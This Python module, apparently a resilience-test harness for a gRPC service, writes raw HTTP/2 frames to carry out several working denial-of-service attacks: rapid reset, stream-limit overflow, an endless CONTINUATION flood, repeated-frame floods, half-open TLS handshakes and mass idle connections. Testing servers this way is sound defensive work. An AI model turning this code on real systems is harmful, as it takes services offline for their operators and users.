"""Peers that do to a gRPC server what no good one would: raw HTTP/2 frames over TLS.

An attack is a function of a Peer; it returns when the connection has ended, or `seconds` are over.
"""

import contextlib
import functools
import select
import socket
import ssl
import threading
import time

PATH = b"/galumph.v2.Galumph/Register"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BUFFER = 1 << 14  # of what is sent at once


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def literal(name_index, value, name=b""):
    """An HPACK field that goes into the peer's table."""
    head = bytes([0x40 | name_index]) if name_index else b"\x40" + bytes([len(name)]) + name
    return head + bytes([len(value)]) + value


# :method POST, :scheme http; then what is in the table behind the first call: the same in six bytes.
FIRST_CALL = b"\x83\x86" + literal(4, PATH) + literal(1, b"radix") + literal(31, b"application/grpc") + literal(0, b"trailers", b"te")
NEXT_CALL = b"\x83\x86\xc1\xc0\xbf\xbe"


def context(pem=None):
    """TLS with the key and certificate in that file; without any."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.set_alpn_protocols(["h2"])
    if pem:
        made.load_cert_chain(pem)
    return made


class Peer:
    """One connection from `source`, over which TLS and HTTP/2 have said hello. OSError where that does not come about."""

    def __init__(self, address, tls, source="127.0.0.66", acknowledges=False):
        connection = socket.create_connection(address, 5, (source, 0))
        try:
            self.socket = tls.wrap_socket(connection, server_hostname="radix")
        except OSError:
            connection.close()
            raise
        self.ended = threading.Event()
        self.opened = threading.Event()  # HTTP/2 answered
        self.socket.settimeout(0.3)
        with self.ending():
            self.socket.sendall(PREFACE + frame(SETTINGS))
        self.reader = threading.Thread(target=self.read, args=(acknowledges,))
        self.reader.start()

    @contextlib.contextmanager
    def ending(self):
        try:
            yield
        except TimeoutError:
            pass  # nobody reads at the other end
        except OSError:
            self.ended.set()

    def read(self, acknowledges):
        while not self.ended.is_set():
            try:
                if not self.socket.recv(1 << 16):
                    self.ended.set()
                elif not self.opened.is_set():
                    if acknowledges:
                        self.socket.sendall(frame(SETTINGS, ACK))
                    self.opened.set()
            except TimeoutError:
                continue
            except OSError:
                self.ended.set()

    def send(self, data):
        """All of it, unless the connection ends."""
        view = memoryview(data)
        while view and not self.ended.is_set():
            with self.ending():
                self.socket.sendall(view[:BUFFER])
                view = view[BUFFER:]

    def close(self):
        self.ended.set()
        self.reader.join()
        self.socket.close()


@functools.cache
def calls(count, first, given_up):
    """So many calls; before them there were `first`."""
    parts = []
    for number in range(first, first + count):
        stream = 2 * number + 1
        parts.append(frame(HEADERS, END_HEADERS, stream, NEXT_CALL if number else FIRST_CALL))
        if given_up:
            parts.append(frame(RESET, 0, stream, b"\0\0\0\x08"))
    return b"".join(parts)


def rapid_reset(peer, seconds):
    """Calls, and each given up at once."""
    end = time.monotonic() + seconds
    number, count = 0, 1000
    while time.monotonic() < end and not peer.ended.is_set():
        peer.send(calls(count, number, given_up=True))
        number += count


def open_calls(count):
    def attack(peer, seconds):
        """So many calls, none of which is ended; more than allowed, by who has not acknowledged that there are limits."""
        peer.send(calls(count, 0, given_up=False))
        peer.ended.wait(seconds)

    return attack


def continuation_flood(size):
    def attack(peer, seconds):
        """A header that goes on for ever, in frames of that size."""
        value = size - 16
        length = b"\x7f" + bytes([(value - 127) % 128 | 128, (value - 127) // 128])
        one = frame(CONTINUATION, 0, 1, b"\x00\x03abc" + length + b"x" * value)
        many = one * (BUFFER * 4 // len(one))
        peer.opened.wait(seconds)
        peer.send(frame(HEADERS, 0, 1, FIRST_CALL))
        send_on(peer, many, seconds)

    return attack


def flood(one):
    def attack(peer, seconds):
        """The same frame, over and over."""
        send_on(peer, one * (BUFFER * 4 // len(one)), seconds)

    return attack


def send_on(peer, data, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end and not peer.ended.is_set():
        peer.send(data)


def hello(tls):
    """What a client says first."""
    outgoing = ssl.MemoryBIO()
    client = tls.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="radix")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


def half_handshake(address, said, source="127.0.0.66"):
    """A connection on which only that is said."""
    connection = socket.create_connection(address, 5, (source, 0))
    connection.sendall(said)
    return connection


def crowd(address, sources, each, is_over):
    """So many connections from each of those addresses on which nothing is said, and new ones for those that were ended."""
    there = {}
    with contextlib.closing(select.epoll()) as poll:

        def connect(source):
            connection = socket.socket()
            connection.setblocking(False)
            connection.bind((source, 0))
            connection.connect_ex(address)
            there[connection.fileno()] = connection, source
            poll.register(connection, select.EPOLLRDHUP)

        try:
            for source in sources:
                for _ in range(each):
                    connect(source)
            while not is_over():
                for descriptor, _ in poll.poll(0.1):
                    connection, source = there.pop(descriptor)
                    connection.close()
                    connect(source)
        finally:
            for connection, _ in there.values():
                connection.close()
